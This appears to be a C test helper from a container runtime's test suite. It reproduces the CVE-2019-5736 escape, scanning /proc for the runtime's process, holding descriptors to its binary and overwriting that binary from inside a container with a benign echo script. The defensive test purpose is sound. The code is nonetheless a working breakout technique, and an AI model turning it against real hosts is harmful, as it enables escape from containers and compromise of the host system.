/* The original CVE-2019-5736 exploit, run inside a container by exe_overwrite.bats: the image
 * has "#!/proc/self/exe" scripts, so a runtime-side process that execs one runs whatever
 * /proc/self/exe names at that moment.  If that were the host's contain binary, the process
 * running it would be dumpable and its /proc/PID/exe could be opened and, once it exits,
 * reopened for writing.
 *
 *   exe_shebang STOP INO   scan /proc until the file STOP exists for processes whose exe has
 *                          inode INO (the runtime's binary), keep an fd of each, then try for
 *                          10 s to reopen them for writing and overwrite the binary.
 * Last line: "summary seen=S got=G wrote=W".  Built -static for the busybox rootfs. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_FDS 64

int main(int argc, char **argv)
{
        if (argc != 3) {
                fprintf(stderr, "usage: exe_shebang STOP INO\n");
                return 2;
        }
        ino_t ino = (ino_t)strtoull(argv[2], NULL, 10);
        int fds[MAX_FDS], n = 0, seen = 0, wrote = 0;

        setvbuf(stdout, NULL, _IOLBF, 0);
        while (access(argv[1], F_OK) != 0) {
                DIR *d = opendir("/proc");
                struct dirent *e;
                while (d && (e = readdir(d))) {
                        if (e->d_name[0] < '1' || e->d_name[0] > '9')
                                continue;
                        char path[300];
                        struct stat st;
                        snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
                        if (stat(path, &st) < 0 || st.st_ino != ino)
                                continue;
                        int fd = open(path, O_RDONLY | O_CLOEXEC);
                        if (fd < 0)
                                continue;
                        seen++;
                        printf("pid %s runs the runtime's binary: GOT fd %d\n", e->d_name, fd);
                        if (n < MAX_FDS)
                                fds[n++] = fd;
                        else
                                close(fd);
                }
                if (d)
                        closedir(d);
        }
        struct timespec start, now, nap = { 0, 1000000 };
        clock_gettime(CLOCK_MONOTONIC, &start);
        for (int i = 0; i < n && !wrote; i++) {
                char path[64];
                snprintf(path, sizeof(path), "/proc/self/fd/%d", fds[i]);
                for (;;) {
                        int w = open(path, O_WRONLY | O_TRUNC);
                        if (w >= 0) {
                                static const char payload[] = "#!/bin/sh\necho container payload ran\n";
                                if (write(w, payload, sizeof(payload) - 1) > 0)
                                        wrote = 1;
                                printf("OVERWROTE the runtime binary through fd %d\n", fds[i]);
                                close(w);
                                break;
                        }
                        clock_gettime(CLOCK_MONOTONIC, &now);
                        if (errno != ETXTBSY || now.tv_sec - start.tv_sec >= 10)
                                break;
                        nanosleep(&nap, NULL);
                }
        }
        printf("summary seen=%d got=%d wrote=%d\n", seen, n, wrote);
        return 0;
}
